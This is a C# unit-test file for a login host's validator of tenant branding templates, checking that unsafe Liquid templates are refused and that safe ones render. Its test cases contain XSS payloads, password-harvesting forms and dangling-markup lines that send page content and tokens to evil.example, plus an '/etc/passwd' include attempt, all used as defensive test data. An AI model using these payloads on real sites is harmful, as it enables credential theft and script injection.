using RulesMfa.Host.Branding;

namespace RulesMfa.Tests.Branding;

public sealed class PageTemplatesTests
{
    private static readonly PageTemplateModel Acme = new("Acme & Co <b>", "https://acme.example/logo.png", "#1f4e8c");

    [TestCase("<div>\n  <SCRIPT>alert(1)</script>{{ content }}</div>", "a <script> element", 2, 3)]
    [TestCase("<div>{{ content }}<img src=x onerror=alert(1)></div>", "an inline event handler (onerror=)", 1, 30)]
    [TestCase("<a href=\"javascript:alert(1)\">home</a>{{ content }}", "a javascript: URL", 1, 10)]
    [TestCase("<iframe src=\"https://evil.example\"></iframe>{{ content }}", "a <iframe> element", 1, 1)]
    [TestCase("<base href=\"https://evil.example/\">{{ content }}", "a <base> element", 1, 1)]
    public void Problem_ScriptInTheSource_IsRefusedNamingItAndWhere(string template, string what, int line, int column)
    {
        var problem = PageTemplates.Problem(template, Acme);

        Assert.Multiple(() =>
        {
            Assert.That(problem!.Field, Is.EqualTo("pageTemplate"));
            Assert.That(problem.Message, Is.EqualTo($"must not contain {what}: the hosted pages run no script of a template"));
            Assert.That((problem.Line, problem.Column), Is.EqualTo((line, column)));
        });
    }

    // A form around the content takes the page's own fields (a browser ignores the page's nested <form> tag), so the
    // password and codes would be posted to the template's action; a field of the template's own asks for them beside the page.
    [TestCase("<form action=\"https://evil.example/collect\" method=\"post\">\n{{ content }}</form>", "a <form> element", 1, 1)]
    [TestCase("<main>{{ content }}</main>\n<p><input type=\"password\" name=\"again\"></p>", "a <input> element", 2, 4)]
    [TestCase("{{ content }}<BUTTON formaction=\"https://evil.example/\">Go</BUTTON>", "a <button> element", 1, 14)]
    [TestCase("{{ content }}<textarea name=\"note\"></textarea>", "a <textarea> element", 1, 14)]
    public void Problem_FormControlsInTheSource_AreRefusedNamingThemAndWhere(string template, string what, int line, int column)
    {
        var problem = PageTemplates.Problem(template, Acme);

        Assert.Multiple(() =>
        {
            Assert.That(problem!.Field, Is.EqualTo("pageTemplate"));
            Assert.That(problem.Message, Is.EqualTo($"must not contain {what}: only the page's own forms take what users type"));
            Assert.That((problem.Line, problem.Column), Is.EqualTo((line, column)));
        });
    }

    [Test]
    public void Problem_JavascriptUrlSpelledWithCharacterReferences_IsRefused()
    {
        var problem = PageTemplates.Problem("<a href=\"jav&#x61;script&#58;alert(1)\">home</a>{{ content }}", Acme);

        Assert.That(problem!.Message, Does.StartWith("must not contain a javascript: URL"));
    }

    [Test]
    public void Problem_ScriptAssembledFromPiecesAtRender_IsRefusedByWhatTheTemplateMakes()
    {
        var problem = PageTemplates.Problem("<scr{{ '' }}ipt>alert(1)</scr{{ '' }}ipt>{{ content }}", Acme);

        Assert.That(problem!.Message, Is.EqualTo("made a <script> element: the hosted pages run no script of a template"));
    }

    [Test]
    public void Problem_UnclosedTag_ReportsLiquidsLineAndColumn()
    {
        var problem = PageTemplates.Problem("<main>\n  {% if tenant.logo_url %}\n  {{ content }}\n</main>", Acme);

        Assert.Multiple(() =>
        {
            Assert.That(problem!.Message, Does.StartWith("is not valid Liquid: '{% endif %}' was expected"));
            Assert.That((problem.Line, problem.Column), Is.EqualTo((4, 8)), "the end of the template, where the endif is missing");
        });
    }

    [TestCase("<main>no content here</main>", "must show the page's content once ({{ content }}); it shows it nowhere")]
    [TestCase("{{ content }}{{ content }}", "must show the page's content once ({{ content }}); it shows it 2 times")]
    public void Problem_ContentNotShownOnce_IsRefused(string template, string message)
    {
        Assert.That(PageTemplates.Problem(template, Acme)!.Message, Is.EqualTo(message));
    }

    // Inside a tag, an attribute, a comment or an element of text, a browser takes the page's markup as that text: an
    // attribute left open sends the page (its antiforgery token, an authenticator's key, a new recovery code) to another
    // site in an image's or a stylesheet's URL, as dangling markup does.
    [TestCase("<img src=\"https://evil.example/c?{{ content }}\">", "inside a tag or one of its attributes")]
    [TestCase("<img src='https://evil.example/c?{{ content }}", "inside a tag or one of its attributes")]
    [TestCase("<img src=https://evil.example/c?{{ content }}>", "inside a tag or one of its attributes")]
    [TestCase("<p title=\"a > b\"></p><a title=\">\" href=\"https://evil.example/c?{{ content }}\">x</a>", "inside a tag or one of its attributes")]
    [TestCase("<img a\"b src=\"https://evil.example/c?>{{ content }}\">", "inside a tag or one of its attributes")]
    [TestCase("<img =\"b src=\"https://evil.example/c?>{{ content }}\">", "inside a tag or one of its attributes")]
    [TestCase("<style>p { color: red; }</style><STYLE>@import url(\"https://evil.example/c?{{ content }}\");</STYLE>", "inside a <style> element")]
    [TestCase("<!-- note --><!-- {{ content }} -->", "inside a comment")]
    [TestCase("<title>{{ content }}</title>", "inside a <title> element")]
    [TestCase("<title>Acme</titlex><style></style-x>{{ content }}</title>", "inside a <title> element")]
    // A browser ends a comment at --!> and at once in <!--> and <!--->, so what follows is a tag of the page.
    [TestCase("<!--><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
    [TestCase("<!---><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
    [TestCase("<!-- a --!><img src='https://evil.example/c?--> {{ content }}'>", "inside a tag or one of its attributes")]
    // A tag's name runs to a space, / or >: <style-x> is no style, and only ASCII letters fold (</tıtle> ends no title).
    [TestCase("<style-x><img src=\"https://evil.example/c?</style>{{ content }}\">", "inside a tag or one of its attributes")]
    [TestCase("<title>Acme</t\u0131tle>{{ content }}</title>", "inside a <title> element")]
    // Inside svg and math a style or title holds markup; a CDATA section, a noscript or a plaintext reads differently.
    [TestCase("<svg><style><img src=\"https://evil.example/c?</style>{{ content }}\"></svg>", "after a <style> holding markup inside <svg> or <math> (a browser reads it as markup there)")]
    [TestCase("<math><title><img src=\"https://evil.example/c?</title>{{ content }}\"></math>", "after a <title> holding markup inside <svg> or <math> (a browser reads it as markup there)")]
    [TestCase("<svg><![CDATA[ > <a b=\" ]]><img src='https://evil.example/c?\">{{ content }}'></svg>", "after a CDATA section (text inside <svg> or <math>, a comment elsewhere)")]
    [TestCase("<noscript><img src='https://evil.example/c?</noscript>{{ content }}'>", "after a <noscript> element (a browser reads it as text or as markup, as scripts run or not)")]
    [TestCase("<plaintext></plaintext>{{ content }}", "inside a <plaintext> element")]
    [TestCase("<svg viewBox=\"0 0 1 1\">{{ content }}</svg>", "inside an <svg> or <math> element")]
    [TestCase("<math></svg>{{ content }}</math>", "inside an <svg> or <math> element")]
    public void Problem_ContentInsideATagACommentOrAnElementOfText_IsRefusedNamingWhere(string template, string where)
    {
        var problem = PageTemplates.Problem(template, Acme);

        Assert.That(problem!.Message, Is.EqualTo($"must show the page's content ({{{{ content }}}}) between elements, not {where}"));
    }

    [Test]
    public void Render_OrdinaryLayoutWithAnSvgLogoNavAndFooter_IsUsed()
    {
        var render = PageTemplates.Render(
            "<!DOCTYPE html><!----><header><a href=\"/\"><svg viewBox=\"0 0 10 10\" role=\"img\"><title>Acme</title><path d=\"M0 0h10v10z\"/></svg></a>"
            + "<nav><a href=\"https://acme.example/help\">Help</a></nav></header>\n<main>{{ content }}</main>"
            + "<footer><img src=\"https://acme.example/x.png\" alt=\"\"><p>&copy; Acme</p></footer>",
            Acme, "<form method=\"post\"></form>");

        Assert.That(render, Is.TypeOf<TemplateRender.Rendered>(), render is TemplateRender.Failed failed ? failed.Reason : "");
    }

    [Test]
    public void Render_ContentBetweenElements_AfterTagsWithQuotedAngleBracketsAndTextElements_IsUsed()
    {
        var render = PageTemplates.Render("<style>a > b { color: #1f4e8c; }</style><!-- <img src=\" --><p title=\"a > b\">x</p>\n<main>{{ content }}</main><img src=\"https://acme.example/x.png\" alt=\"\">",
            Acme, "<form method=\"post\"></form>");

        Assert.That(render, Is.TypeOf<TemplateRender.Rendered>(), render is TemplateRender.Failed failed ? failed.Reason : "");
    }

    [Test]
    public void Problem_LoopPastTheStepLimit_IsRefusedNamingTheLimit()
    {
        var problem = PageTemplates.Problem("{% for i in (1..100000) %}.{% endfor %}{{ content }}", Acme);

        Assert.That(problem!.Message, Does.StartWith("breaks a rendering limit"));
    }

    [Test]
    public void Render_ModelValuesAreEncoded_ContentIsPutInWhole()
    {
        var render = PageTemplates.Render(
            "<header style=\"color: {{ tenant.color }}\"><img src=\"{{ tenant.logo_url }}\" alt=\"\">{{ tenant.name }}</header><main>{{ content }}</main>",
            Acme, "<form method=\"post\"><input name=\"Email\"></form>");

        Assert.That(((TemplateRender.Rendered)render).Html, Is.EqualTo(
            "<header style=\"color: #1f4e8c\"><img src=\"https://acme.example/logo.png\" alt=\"\">Acme &amp; Co &lt;b&gt;</header><main><form method=\"post\"><input name=\"Email\"></form></main>"));
    }

    [Test]
    public void Render_TemplateAskingAboutTheContent_NeverSeesIt()
    {
        var render = PageTemplates.Render("{% if content contains 'password' %}LEAKED{% endif %}{{ content | size }}|{{ content }}", Acme, "<input type=\"password\">");

        Assert.That(((TemplateRender.Rendered)render).Html, Does.Not.Contain("LEAKED").And.Not.StartWith("23|"));
    }

    [Test]
    public void Render_IncludeOfAFile_ReadsNothing()
    {
        var render = PageTemplates.Render("{% include '/etc/passwd' %}{{ content }}", Acme, "page");

        Assert.That(render is TemplateRender.Rendered rendered ? rendered.Html : ((TemplateRender.Failed)render).Reason, Does.Not.Contain("root:"));
    }

    [Test]
    public void Render_TemplateThatMakesAScript_FailsSoTheDefaultLayoutIsUsed()
    {
        var render = PageTemplates.Render("{% if tenant.name contains 'Acme' %}<scr{% endif %}ipt>{{ content }}", Acme, "page");

        Assert.That(((TemplateRender.Failed)render).Reason, Is.EqualTo("made a <script> element: the hosted pages run no script of a template"));
    }

    [Test]
    public void Render_TemplateThatMakesAForm_FailsSoTheDefaultLayoutIsUsed()
    {
        var render = PageTemplates.Render("<fo{% if tenant.name %}{% endif %}rm action=\"https://evil.example/collect\">{{ content }}</form>", Acme,
            "<form method=\"post\"><input type=\"password\" name=\"Password\"></form>");

        Assert.That(((TemplateRender.Failed)render).Reason, Is.EqualTo("made a <form> element: only the page's own forms take what users type"));
    }

    [TestCase("#1f4e8c", null)]
    [TestCase("#FFD700", "is too light for the white text on it: contrast 1.40:1, at least 4.5:1 is needed")]
    [TestCase("red", "must be a colour written #rrggbb (six hexadecimal digits)")]
    [TestCase("#1f4e8c; background: url(x)", "must be a colour written #rrggbb (six hexadecimal digits)")]
    public void BrandColor_Problem_AcceptsOnlyReadableHexColours(string color, string? problem)
    {
        Assert.That(BrandColor.Problem(color), Is.EqualTo(problem));
    }
}
